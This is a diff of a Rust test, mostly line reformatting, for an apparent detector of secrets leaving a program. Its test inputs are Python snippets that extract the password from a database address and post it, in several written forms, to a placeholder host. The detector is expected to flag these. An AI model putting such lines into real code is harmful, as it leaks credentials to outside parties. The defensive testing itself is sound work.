@@ -294,7 +294,8 @@ fn secret_sent(body: &str) -> (bool, String) {
 
 #[test]
 fn the_password_in_an_address_is_a_secret_however_it_is_written_into_a_text() {
-    const PARTS: &str = "from urllib.parse import urlsplit, urlencode\ndef f(dsn):\n    u = urlsplit(dsn)\n    ";
+    const PARTS: &str =
+        "from urllib.parse import urlsplit, urlencode\ndef f(dsn):\n    u = urlsplit(dsn)\n    ";
     for (text, is_told) in [
         ("u.password", true),
         ("'p=' + u.password", true),
@@ -305,8 +306,13 @@ fn the_password_in_an_address_is_a_secret_however_it_is_written_into_a_text() {
         ("urlencode({'p': u.password})", true),
         ("u.hostname", false),
     ] {
-        let (is_secret, shown) = secret_sent(&format!("{PARTS}requests.post('https://a.example', data={text})"));
-        assert_eq!((is_secret, shown.contains("⟨argument[password]⟩")), (is_told, is_told), "{text}: {shown}");
+        let (is_secret, shown) =
+            secret_sent(&format!("{PARTS}requests.post('https://a.example', data={text})"));
+        assert_eq!(
+            (is_secret, shown.contains("⟨argument[password]⟩")),
+            (is_told, is_told),
+            "{text}: {shown}"
+        );
     }
 }
 
